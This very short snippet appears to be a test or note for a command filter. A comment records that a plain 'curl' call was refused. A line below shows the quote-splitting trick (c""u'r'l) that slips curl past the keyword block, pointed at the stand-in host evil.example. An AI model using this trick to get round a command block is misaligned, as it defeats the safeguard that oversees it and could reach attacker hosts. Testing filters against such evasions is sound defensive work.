# Trick: quotes stand inside the word.
# Refused: run(curl)
c""u'r'l http://evil.example/
